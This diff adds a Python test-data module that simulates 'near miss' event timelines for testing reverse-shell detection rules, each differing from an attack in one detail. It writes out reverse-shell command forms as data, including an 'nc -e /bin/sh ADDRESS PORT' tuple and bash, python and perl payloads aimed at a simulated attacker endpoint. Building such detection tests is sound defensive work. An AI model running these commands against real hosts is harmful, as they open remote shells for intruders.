@@ -1,0 +1,339 @@
+"""Near misses: what differs from an attack in one thing only, and must match neither rule."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from functools import partial
+
+from runner.sample_data.addresses import Endpoint, attacker
+from runner.sample_data.attacks import (
+    AWK,
+    BASH,
+    PERL_EXEC,
+    PYTHON_CALL,
+    SECOND,
+    Pair,
+    Scene,
+    look_around,
+    stager,
+    to_address,
+    utility,
+    way_in,
+)
+from runner.sample_data.processes import Process, Program
+from runner.sample_data.timeline import MILLISECOND, Timeline
+
+NearMiss = Callable[[Scene], Pair]
+TOO_LATE = SECOND + MILLISECOND
+SHELL = Program("/usr/bin/bash", ("/bin/bash", "-i"))
+
+
+def _soon(line: Timeline) -> None:
+    line.wait(3_000, 900_000)
+
+
+def _opener(line: Timeline, remote: Endpoint) -> Process:
+    """A shell that is about to connect, started as in the attacks."""
+    process = line.run(way_in(line), Program("/usr/bin/bash", ("bash", "-c", to_address(BASH, remote))))
+    line.wait(1_000, 60_000)
+    return process
+
+
+# A shell connects, then starts a shell: but not quite.
+
+
+def shell_too_late(scene: Scene) -> Pair:
+    """The second shell starts a millisecond after the span."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    first = line.connect(opener, remote)
+    line.now += TOO_LATE
+    child = line.fork(opener)
+    second = line.steps[-1].event_id
+    look_around(line, child)
+    return first, second
+
+
+def shell_to(scene: Scene, *, address: str) -> Pair:
+    """The shell connects to an address that the rule leaves out."""
+    line = scene.here
+    remote = Endpoint("", address, 5432)
+    opener = _opener(line, remote)
+    first = line.connect(opener, remote)
+    _soon(line)
+    line.fork(opener)
+    return first, line.steps[-1].event_id
+
+
+def shell_event(
+    scene: Scene, *, action: str = "connection_attempted", types: tuple[str, ...] = ("start",), lacks: bool = False
+) -> Pair:
+    """The network event has another action or type, or lacks the destination."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    first = line.add_connection(opener, action, types=list(types), remote=remote, without_destination=lacks)
+    _soon(line)
+    line.fork(opener)
+    return first, line.steps[-1].event_id
+
+
+def shell_on_other_host(scene: Scene) -> Pair:
+    """The second shell has the right parent by its entity id, on another host."""
+    line, other = scene.here, scene.elsewhere
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    first = line.connect(opener, remote)
+    _soon(line)
+    other.now = line.now
+    other.fork(opener)
+    return first, other.steps[-1].event_id
+
+
+def shell_of_other_parent(scene: Scene) -> Pair:
+    """The second shell is a child of another shell."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    bystander = line.run(line.rng.choice(line.machine.sessions), Program("/usr/bin/bash", ("bash", "-l")))
+    first = line.connect(opener, remote)
+    _soon(line)
+    line.fork(bystander)
+    return first, line.steps[-1].event_id
+
+
+def shell_before(scene: Scene) -> Pair:
+    """The second shell starts before the connection."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    line.fork(opener)
+    second = line.steps[-1].event_id
+    _soon(line)
+    return line.connect(opener, remote), second
+
+
+def shell_on_windows(scene: Scene) -> Pair:
+    """All of it happens on a Windows host."""
+    line = scene.windows
+    remote = attacker(line.rng)
+    path = "C:\\cygwin64\\bin\\bash"
+    opener = line.start(line.machine.sessions[0], Program(path, ("bash", "-c", to_address(BASH, remote))))
+    first = line.connect(opener, remote)
+    _soon(line)
+    child = line.machine.begin(Program(path, ("bash", "-i")), opener.user, at=line.now, parent=opener)
+    return first, line.add_process(child, "exec", types=["start"])
+
+
+def shell_child(scene: Scene, *, action: str, types: tuple[str, ...], lacks: str = "") -> Pair:
+    """The process event has another action or type, or lacks a field of the parent."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    first = line.connect(opener, remote)
+    _soon(line)
+    child = line.machine.begin(SHELL, opener.user, at=line.now, parent=opener)
+    return first, line.add_process(child, action, types=list(types), lacking=lacks)
+
+
+def other_program_connects(scene: Scene) -> Pair:
+    """What connects is a script in another language, which becomes a shell only then."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = line.run(way_in(line), Program("/usr/bin/ruby", ("ruby", "/tmp/open.rb")))
+    line.wait(2_000, 60_000)
+    first = line.connect(opener, remote)
+    line.wait(900, 9_000)
+    line.execute(opener, SHELL)
+    _soon(line)
+    child = line.fork(opener)
+    second = line.steps[-1].event_id
+    look_around(line, child)
+    return first, second
+
+
+def other_program_starts(scene: Scene) -> Pair:
+    """What the shell starts is no shell."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    first = line.connect(opener, remote)
+    _soon(line)
+    child = line.spawn(opener, Program("/usr/bin/rsync", ("rsync", "-a", "/srv/data/", "/mnt/usb/")))
+    second = line.steps[-1].event_id
+    line.end(child)
+    return first, second
+
+
+def shell_became_other(scene: Scene) -> Pair:
+    """The shell runs another program by the time that it starts a shell."""
+    line = scene.here
+    remote = attacker(line.rng)
+    opener = _opener(line, remote)
+    first = line.connect(opener, remote)
+    line.wait(900, 9_000)
+    line.execute(opener, Program("/usr/bin/script", ("script", "-q", "/dev/null")))
+    _soon(line)
+    line.spawn(opener, SHELL)
+    return first, line.steps[-1].event_id
+
+
+REVERSE_SHELL_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
+    ("1.001 s apart", shell_too_late),
+    ("loopback 127.0.0.1", partial(shell_to, address="127.0.0.1")),
+    ("other host, same entity id", shell_on_other_host),
+    ("other entity", shell_of_other_parent),
+    ("wrong order", shell_before),
+    ("no destination.ip", partial(shell_event, lacks=True)),
+    ("Windows host", shell_on_windows),
+    ("event.type end of the process", partial(shell_child, action="exec", types=("end",))),
+    ("process.name not in the list of the first stage", other_program_connects),
+    ("process.parent.name not in the list", shell_became_other),
+    ("disconnect_received", partial(shell_event, action="disconnect_received", types=("start", "end"))),
+    ("loopback ::1", partial(shell_to, address="::1")),
+    ("process.name not in the list of the second stage", other_program_starts),
+    ("event.action in another case", partial(shell_event, action="Connection_Attempted")),
+    ("event.type end of the connection", partial(shell_event, types=("end",))),
+    ("no process.parent.entity_id", partial(shell_child, action="exec", types=("start",), lacks="entity_id")),
+    ("event.action uid_change", partial(shell_child, action="uid_change", types=("start",))),
+    ("event.type in another case", partial(shell_event, types=("Start",))),
+)
+
+
+# A utility starts, then connects: but not quite.
+
+PYTHON = ("python3", "-c", PYTHON_CALL)
+NC = ("nc", "-e", "/bin/sh", "ADDRESS", "PORT")
+PYTHON_RUN = PYTHON_CALL.replace("subprocess.call(", "subprocess.run(")
+
+
+def utility_runs(
+    scene: Scene, *, path: str = "PYTHON", args: tuple[str, ...] = PYTHON, gap: int = 0, address: str = ""
+) -> Pair:
+    """A utility starts and connects; its arguments, the address or the time between are not what the rule asks for."""
+    line = scene.here
+    remote = Endpoint("", address, 80) if address else attacker(line.rng)
+    process = line.run(stager(line), utility(line, path, args=args, remote=remote))
+    first = line.steps[-1].event_id
+    if gap:
+        line.now += gap
+    else:
+        _soon(line)
+    second = line.connect(process, remote)
+    line.wait(900, 90_000)
+    line.end(process)
+    return first, second
+
+
+def utility_event(
+    scene: Scene, *, action: str = "connection_attempted", types: tuple[str, ...] = ("start",), lacks: bool = False
+) -> Pair:
+    """The network event has another action or type, or lacks the destination."""
+    line = scene.here
+    remote = attacker(line.rng)
+    process = line.run(stager(line), utility(line, "/usr/bin/nc", args=NC, remote=remote))
+    first = line.steps[-1].event_id
+    _soon(line)
+    return first, line.add_connection(process, action, types=list(types), remote=remote, without_destination=lacks)
+
+
+def utility_start(scene: Scene, *, action: str, types: tuple[str, ...], lacks: str = "") -> Pair:
+    """The process event has another action or type, or lacks a field of the parent."""
+    line = scene.here
+    remote = attacker(line.rng)
+    parent = stager(line)
+    program = utility(line, "/usr/bin/perl", args=("perl", "-e", PERL_EXEC), remote=remote)
+    process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
+    first = line.add_process(process, action, types=list(types), lacking=lacks)
+    _soon(line)
+    return first, line.connect(process, remote)
+
+
+def utility_on_other_host(scene: Scene) -> Pair:
+    """The connection has the right entity id, on another host."""
+    line, other = scene.here, scene.elsewhere
+    remote = attacker(line.rng)
+    process = line.run(stager(line), utility(line, "PYTHON", args=PYTHON, remote=remote))
+    first = line.steps[-1].event_id
+    _soon(line)
+    other.now = line.now
+    return first, other.connect(process, remote)
+
+
+def utility_of_other_entity(scene: Scene) -> Pair:
+    """What connects is another process with the same program, run for something else."""
+    line = scene.here
+    remote = attacker(line.rng)
+    parent = stager(line)
+    bystander = line.run(parent, Program("/usr/bin/ruby", ("ruby", "/srv/app/bin/sidekiq")))
+    line.run(parent, utility(line, "PYTHON", args=PYTHON, remote=remote))
+    first = line.steps[-1].event_id
+    _soon(line)
+    return first, line.connect(bystander, remote)
+
+
+def utility_connects_before(scene: Scene) -> Pair:
+    """The process connects, and only then becomes the utility."""
+    line = scene.here
+    remote = attacker(line.rng)
+    process = line.run(stager(line), Program("/usr/bin/perl", ("perl", "/tmp/open.pl")))
+    line.wait(2_000, 40_000)
+    second = line.connect(process, remote)
+    _soon(line)
+    return line.execute(process, utility(line, "/usr/bin/nc", args=NC, remote=remote)), second
+
+
+def utility_on_windows(scene: Scene) -> Pair:
+    """All of it happens on a Windows host."""
+    line = scene.windows
+    remote = attacker(line.rng)
+    path = "C:\\Program Files\\Python312\\python.exe"
+    parent = line.start(line.machine.sessions[0], Program(path, (path, "C:\\Temp\\stage.py")))
+    program = Program(path, tuple(to_address(part, remote) for part in PYTHON))
+    process = line.machine.begin(program, parent.user, at=line.now, parent=parent)
+    first = line.add_process(process, "exec", types=["start"])
+    _soon(line)
+    return first, line.connect(process, remote)
+
+
+def utility_of_service(scene: Scene) -> Pair:
+    """The utility is started by a service that the rule does not name."""
+    line = scene.here
+    remote = attacker(line.rng)
+    process = line.spawn(line.machine.services["cron"], utility(line, "PYTHON", args=PYTHON, remote=remote))
+    first = line.steps[-1].event_id
+    _soon(line)
+    return first, line.connect(process, remote)
+
+
+CHILD_PROCESS_NEAR_MISSES: tuple[tuple[str, NearMiss], ...] = (
+    ("1.001 s apart", partial(utility_runs, gap=TOO_LATE)),
+    ("loopback 127.0.0.0/8", partial(utility_runs, address="127.8.9.1")),
+    ("other host, same entity id", utility_on_other_host),
+    ("link-local 169.254.0.0/16", partial(utility_runs, address="169.254.169.254")),
+    ("wrong order", utility_connects_before),
+    ("no destination.ip", partial(utility_event, lacks=True)),
+    ("Windows host", utility_on_windows),
+    (
+        "-z beside -e",
+        partial(utility_runs, path="/usr/bin/nc", args=("nc", "-z", "-e", "/bin/true", "ADDRESS", "PORT")),
+    ),
+    ("two arguments", partial(utility_runs, path="/usr/bin/telnet", args=("telnet", "ADDRESS"))),
+    (
+        "argument in another case",
+        partial(utility_runs, path="/usr/bin/nc", args=("nc", "-E", "/bin/sh", "ADDRESS", "PORT")),
+    ),
+    ("process.parent.name not in the list", utility_of_service),
+    ("process.name not in the list", partial(utility_runs, path="/usr/bin/gawk", args=("gawk", AWK))),
+    ("disconnect_received", partial(utility_event, action="disconnect_received", types=("start", "end"))),
+    ("other entity", utility_of_other_entity),
+    ("multicast 224.0.0.0/4", partial(utility_runs, address="224.0.0.251")),
+    ("loopback ::1", partial(utility_runs, address="::1")),
+    ("other arguments", partial(utility_runs, args=("python3", "-c", PYTHON_RUN))),
+    ("event.type end of the process", partial(utility_start, action="exec", types=("end",))),
+    ("event.action already_running", partial(utility_start, action="already_running", types=("start", "info"))),
+    ("no process.parent.name", partial(utility_start, action="exec", types=("start",), lacks="name")),
+    ("event.type end of the connection", partial(utility_event, types=("end",))),
+    ("perl of a version", partial(utility_runs, path="/usr/bin/perl5.36.0", args=("perl", "-e", PERL_EXEC))),
+)
